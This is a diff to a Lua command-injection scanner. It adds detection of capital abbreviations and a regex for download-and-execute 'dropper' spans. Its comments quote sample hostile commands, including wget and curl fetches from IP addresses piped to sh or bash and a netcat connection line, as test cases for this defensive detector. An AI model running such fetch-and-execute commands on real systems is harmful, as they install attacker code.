@@ -2090,15 +2090,25 @@ end
 -- injected (rce-command), 1 when the value or one of its lines is a
 -- command line (rce-command-line), false otherwise. Names and keys have
 -- no command at their start, only after a separator.
+local fetch_and_run     -- (below: a span that fetches a file and runs it)
+
 -- A name written as a product's, at j of the value as written (dec; s
--- lower-cased): blanks, a capital and lower-case letters, then words
+-- lower-cased): blanks, a capital and lower-case letters (or capitals
+-- alone, then words or nothing), then words
 -- alone (letters, digits, blanks, ".,+()[]@!?:" and non-ASCII
 -- letters) up to the next separator or the end; not a name cmd.exe or
 -- PowerShell runs whatever its case, nor their delay.
 local function title_words(dec, s, j)
     local b, e = find(dec, "^[ \t]*%u%l+[%l%d]*", j)
+    -- (or an abbreviation in capitals, "bring a laptop & ID", "; IRB
+    -- approval": words or nothing after it)
+    local caps = false
     if not e then
-        return false
+        b, e = find(dec, "^[ \t]*%u%u+%f[^%w]", j)
+        if not e then
+            return false
+        end
+        caps = true
     end
     local name = match(sub(s, b, e), "%l[%l%d]*")
     if CMD_CAPABLE[name] or name == "sleep" or name == "start" then
@@ -2109,8 +2119,21 @@ local function title_words(dec, s, j)
     -- (a word after it, and no host or address among them: "Nc
     -- 198.51.100.3 9001", "Curl x.example" are a case-blind system's
     -- commands)
-    return find(rest, "^[ \t]+%a") ~= nil and not find(rest, "[^%w%s.,+()%[%]@!?:\128-\255]")
-        and not find(rest, "%.[^%s]")
+    return (find(rest, "^[ \t]+%a") ~= nil or (caps and not find(rest, "%S")))
+        and not find(rest, "[^%w%s.,+()%[%]@!?:\128-\255]") and not find(rest, "%.[^%s]")
+end
+
+-- A span that fetches a file from an address and runs it ("`wget -qO
+-- /tmp/x http://198.51.100.7/x && sh /tmp/x`", "`curl -s
+-- http://10.1.1.1/s | bash`"): a dropper, whatever text stands around
+-- it; a manual's install line names its host ("curl -fsSL
+-- https://get.example.com | sh").
+local RE_FETCH_RUN = [=[^\s*(?:wget|curl|fetch)\s[^`]*?\b(?:https?|ftp)://\d{1,3}(?:\.\d{1,3}){3}]=]
+    .. [=[[^`]*?(?:\|\s*(?:ba|z|da)?sh\b|&&\s*(?:(?:ba|z|da)?sh|chmod)\s|;\s*(?:(?:ba|z|da)?sh]=]
+    .. [=[|chmod)\s)]=]
+
+fetch_and_run = function(s, from, to)
+    return to >= from and re_find(sub(s, from, to), RE_FETCH_RUN, "jo") ~= nil
 end
 
 local function scan_commands(s, where, dec, raw)
@@ -2195,6 +2218,7 @@ local function scan_commands(s, where, dec, raw)
                     and not (only_quotes(s, 1, b - 1) and only_quotes(s, close + 1, n))
                     and not (i == 1 and argument_then_span(s, b, close))
                     and not find(s, "^[ \t]*#[^%s]*[ \t]*$", close + 1)
+                    and not fetch_and_run(s, b + 1, close - 1)
                 -- reST's interpreted text (":func:`x`", after a space or
                 -- the start) and references ("`text <url>`_", "`x`__")
                 -- in text: a space outside the span says there is text
